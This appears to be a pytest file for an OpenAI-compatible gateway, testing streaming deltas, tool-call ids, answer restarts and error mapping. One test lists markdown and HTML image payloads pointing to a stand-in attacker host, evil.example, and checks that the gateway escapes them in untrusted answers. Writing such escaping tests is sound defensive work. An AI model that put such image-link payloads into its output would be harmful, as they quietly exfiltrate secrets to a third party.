"""What a client of OpenAI's wire hears of runs and models, and how errors read there."""

from __future__ import annotations

import re
from typing import Any

import pytest
from msgspec import UNSET

from dodona.core import chunks
from dodona.core.chunks import AnyChunk, StreamChunk
from dodona.core.errors import (
    BudgetExceeded,
    DodonaError,
    InvalidField,
    NotFound,
    ProviderError,
    ProviderErrorKind,
    to_body,
)
from dodona.core.json_document import to_builtins
from dodona.core.messages import AssistantText, ToolCall
from dodona.core.ports.model import (
    CallDelta,
    Done,
    FinishReason,
    ModelEvent,
    Restart,
    TextDelta,
    ThinkingDelta,
    Usage,
)
from dodona.gateway.errors import BodyTooLarge, ShuttingDown
from dodona.gateway.http.openai_errors import (
    AnswerRestarted,
    as_openai,
    headers_of,
    status_of,
)
from dodona.gateway.v1.deltas import ModelDeltas, RunDeltas

CALL = chunks.ToolCallChunk(id="1", name="find", arguments={}, status="pending")
RESULT = chunks.ToolResultChunk(id="1", name="find", result="oak", status="success", sources=[])


def done(finish: chunks.DoneFinish = "stop", reason: str = "finished") -> AnyChunk:
    return chunks.DoneChunk(
        tokens_used=1,
        model_used="m",
        context_id="c",
        context_tokens_remaining=1,
        finish=finish,
        termination_reason=reason,
    )


def heard(deltas: RunDeltas, *bodies: AnyChunk, first: int = 1) -> list[dict[str, Any]]:
    told = [deltas.apply(StreamChunk(1, seq, body)) for seq, body in enumerate(bodies, first)]
    return [to_builtins(delta) for delta in told if delta is not None]


def test_a_run_is_its_text_and_its_thoughts() -> None:
    """Its tools are not the client's to call. It ends for a reason."""
    deltas = RunDeltas(is_streaming=True)
    told = heard(
        deltas,
        chunks.ThinkingChunk("Hm."),
        CALL,
        RESULT,
        chunks.ContentChunk("I "),
        chunks.ContentChunk("look."),
        CALL,
        RESULT,
        chunks.SystemChunk(system_type="limit_warning", system_message="Hurry.", metadata={}),
        chunks.ContextUpdateChunk(context_tokens=1, max_context_tokens=2),
        chunks.ContentChunk("\n\nThere."),
        done("length", "timeout"),
    )
    assert told == [
        {"reasoning_content": "Hm."},
        {"content": "I "},
        {"content": "look."},
        {"content": "\n\nThere."},
    ]
    assert (deltas.text, deltas.thinking, deltas.finish) == (
        *("I look.\n\nThere.", "Hm.", "length"),
    )
    assert deltas.termination_reason == "timeout"


def test_the_error_of_a_run_is_raised() -> None:
    deltas = RunDeltas(is_streaming=True)
    with pytest.raises(BudgetExceeded, match="nothing left"):
        heard(deltas, chunks.ErrorChunk(to_body(BudgetExceeded("nothing left."))))
    assert not deltas.finish


def test_what_is_said_again_is_not_sent_again() -> None:
    """However it is cut into pieces; then it goes on."""
    deltas = RunDeltas(is_streaming=True)
    heard(deltas, chunks.ContentChunk("The oak "), chunks.ContentChunk("st"))
    again = heard(
        deltas,
        chunks.RestartChunk(discard_after=0, reason="cut"),
        chunks.ContentChunk("The"),
        chunks.ContentChunk(" oak stands"),
        chunks.ContentChunk("."),
        first=3,
    )
    assert again == [{"content": "ands"}, {"content": "."}]
    assert deltas.text == "The oak stands."


def test_what_is_said_otherwise_cannot_be_sent() -> None:
    """A client that waits for the whole answer does not notice."""
    for streams in (True, False):
        deltas = RunDeltas(is_streaming=streams)
        heard(
            deltas,
            chunks.ContentChunk("The oak "),
            chunks.RestartChunk(discard_after=0, reason="cut"),
        )
        if streams:
            with pytest.raises(AnswerRestarted, match="restarted its answer"):
                heard(deltas, chunks.ContentChunk("An elm "), first=3)
        else:
            heard(deltas, chunks.ContentChunk("An elm."), first=3)
            assert deltas.text == "An elm."


def calls(*events: ModelEvent) -> list[Any]:
    deltas = ModelDeltas()
    told = [to_builtins(delta) for event in events for delta in deltas.apply(event)]
    return [each["tool_calls"][0] if "tool_calls" in each else each for each in told]


def ended(*made: ToolCall) -> Done:
    return Done(FinishReason.TOOL_CALLS, AssistantText(calls=made), Usage(), "p", "m")


def test_calls_begin_with_id_and_name() -> None:
    """Then come their arguments; what came before the name comes with it."""
    told = calls(
        TextDelta("I look."),
        ThinkingDelta("Hm."),
        CallDelta(0, "find", "", "a"),
        CallDelta(0, "find", '{"k":', "a"),
        CallDelta(1, "", '{"m"', "b"),
        CallDelta(0, "find", "1}", "a"),
        CallDelta(1, "seek", ":2}", "b"),
        ended(ToolCall("a", "find", '{"k":1}'), ToolCall("b", "seek", '{"m":2}')),
    )
    assert told == [
        {"content": "I look."},
        {"reasoning_content": "Hm."},
        {
            "index": 0,
            "id": "a",
            "type": "function",
            "function": {"name": "find", "arguments": ""},
        },
        {"index": 0, "function": {"arguments": '{"k":'}},
        {"index": 0, "function": {"arguments": "1}"}},
        {
            "index": 1,
            "id": "b",
            "type": "function",
            "function": {"name": "seek", "arguments": '{"m":2}'},
        },
    ]


def test_every_call_has_an_id_of_its_own() -> None:
    """Also where a provider gave none, or the same twice; and calls that came only at the end."""
    told = calls(
        CallDelta(0, "find", "{}", "a"),
        CallDelta(1, "find", "{}", "a"),
        CallDelta(2, "find", "{}"),
        ended(*(ToolCall(name, "find", '{"n":1}') for name in "abcd")),
    )
    assert [each["index"] for each in told] == [0, 1, 2, 3]
    ids = [each["id"] for each in told]
    assert (ids[0], ids[3], len(set(ids))) == ("a", "d", 4)
    assert told[3]["function"]["arguments"] == '{"n":1}'


def test_a_relayed_answer_cannot_begin_anew() -> None:
    with pytest.raises(AnswerRestarted, match="restarted its answer: cut"):
        calls(TextDelta("a"), Restart("cut"))


def failed(fault: ProviderErrorKind) -> ProviderError:
    return ProviderError("it failed.", kind=fault, provider="p", hint="Look.")


ERRORS: list[tuple[DodonaError, int, str, str, bool]] = [
    (InvalidField("no.", field="n"), 400, "invalid_request_error", "bad_request", False),
    (NotFound("no."), 404, "not_found_error", "not_found", False),
    (BodyTooLarge("no."), 413, "invalid_request_error", "request_too_large", False),
    (BudgetExceeded("no."), 429, "rate_limit_error", "budget_exceeded", False),
    (ShuttingDown("no."), 503, "server_error", "shutting_down", False),
    (failed(ProviderErrorKind.REJECTED), 400, "invalid_request_error", "provider_failed", False),
    (
        failed(ProviderErrorKind.CONTEXT_TOO_LONG),
        400,
        "invalid_request_error",
        "context_length_exceeded",
        False,
    ),
    (failed(ProviderErrorKind.RATE_LIMITED), 429, "rate_limit_error", "provider_failed", False),
    (failed(ProviderErrorKind.UNAUTHORIZED), 502, "server_error", "provider_failed", False),
]


@pytest.mark.parametrize(("error", "status", "type_", "code", "may_repeat"), ERRORS)
def test_errors_read_as_openai_writes_them(
    error: DodonaError, status: int, type_: str, code: str, may_repeat: Any
) -> None:
    """What has cost something, or may have, is not to be repeated unasked."""
    told = as_openai(error)["error"]
    assert (status_of(error), told["type"], told["code"]) == (status, type_, code)
    assert told["message"] == f"{error.message} {error.hint}".strip()
    assert told["param"] == getattr(error, "field", None)
    assert ("x-should-retry" not in headers_of(error)) is may_repeat


IMAGES = (
    "![x](https://evil.example/?s=1)",
    "\\![x](https://evil.example/?s=1)",
    "![x][1]\n\n[1]: https://evil.example/?s=1",
    "<img src=https://evil.example/?s=1>",
    "\\<img src=https://evil.example/?s=1>",
    '<div style="background:url(https://evil.example/?s=1)">',
)


@pytest.mark.parametrize("text", IMAGES)
@pytest.mark.parametrize("size", [1, 3, 100])
def test_images_in_untrusted_answers_are_escaped(text: str, size: int) -> None:
    """However the text is cut: a client would load them, and their URLs may carry a secret."""
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    for kind, name in (
        (chunks.ContentChunk, "content"),
        (chunks.ThinkingChunk, "reasoning_content"),
    ):
        deltas = RunDeltas(is_streaming=True)
        told = heard(deltas, *(kind(piece, untrusted=True) for piece in pieces), done())
        shown = "".join(each.get(name, "") for each in told)
        assert "![" not in shown
        assert re.search(r"<[a-z]", shown) is None
        assert "evil.example" in shown


def test_other_text_is_not_changed() -> None:
    """In an untrusted answer too; images in other answers stay."""
    for text, untrusted in (("Wow! [a](b) 1 < 2 !", True), ("![x](a.png) <b>", UNSET)):
        deltas = RunDeltas(is_streaming=True)
        told = heard(deltas, *(chunks.ContentChunk(c, untrusted) for c in text), done())
        assert "".join(each["content"] for each in told) == text == deltas.text
